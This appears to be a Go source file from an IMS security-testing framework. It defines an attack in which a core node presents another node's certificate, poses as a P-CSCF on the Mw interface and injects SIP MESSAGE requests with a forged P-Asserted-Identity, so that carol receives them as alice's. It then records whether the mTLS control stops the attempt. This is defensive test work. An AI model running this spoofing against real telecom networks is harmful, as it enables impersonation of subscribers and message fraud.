package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// mwIntrude: a machine of the inner network that is no CSCF speaks as one.
func mwIntrude() Attack {
	return Attack{
		ID: "core.mw.intrude", Number: "ZB-03", Title: "a node that is no CSCF speaks on the wire between CSCFs",
		Text:     "what comes from a P-CSCF is believed: who it is, and that he is registered. Whoever speaks there is anybody he likes",
		Services: []Service{Authentication}, Stride: Spoofing, Threats: []Threat{Removal}, Module: InfrastructureControl,
		Source: "TS 33.210 5.6; TS 24.229 4.4", Access: []Access{Mw},
		Bounds:   Bounds{Packets: 40, Bytes: 40_000, Conns: 1, Time: 3 * time.Second},
		Variants: []Variant{{Position: CoreNode, Controls: []secure.ControlID{secure.CoreAuthenticationMTLS}, Run: speaksAsPCSCF}},
	}
}

// speaksAsPCSCF writes to carol as alice, who has not written. Its certificate is one of the network's, of a node that handles media.
func speaksAsPCSCF(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	h, _, err := f.onMw(ctx, &ServicePlatform{Certificate: f.Node})
	if err != nil {
		return err
	}
	const times = 10
	text := f.token()
	status := 0
	alice := f.Users[Alice]
	for i := range times {
		message := h.Text(Request{Method: "MESSAGE", URI: f.Users[Carol].IMPU, From: alice.IMPU, Body: fmt.Sprint(text, " ", i), Lines: []string{
			"Route: <sip:orig@scscf." + f.Domain + ";lr>", "P-Asserted-Identity: <" + alice.IMPU + ">", "P-Charging-Vector: icid-value=" + f.token(),
			"Content-Type: text/plain"}})
		if i < times-1 {
			if err := h.Write(message); err != nil {
				break // it was closed
			}
			continue
		}
		if status, err = h.answered(ctx, message); err != nil && !errors.Is(err, ErrClosed) && !errors.Is(err, ErrSilence) {
			return err
		}
	}
	if err := f.Bob.UE.SendMessage(ctx, f.Users[Carol].IMPU, "text/plain", []byte(text)); err != nil {
		return fmt.Errorf("attack: bob's own message: %w", err)
	}
	got := 0
	if _, err := carol.Await(ctx, func(m *sip.Message) bool {
		if len(m.Body()) > len(text) && string(m.Body()[:len(text)]) == text {
			got++
		}
		return string(m.Body()) == text
	}); err != nil {
		return err
	}
	o.Arrived("%d messages on a connection with the certificate of another node", times)
	o.Users = min(got, 1)
	o.Wire(status == 200, "the last of %d messages is answered %d", times, status)
	o.Peer(got > 0, "carol gets %d of them as alice's", got)
	return nil
}
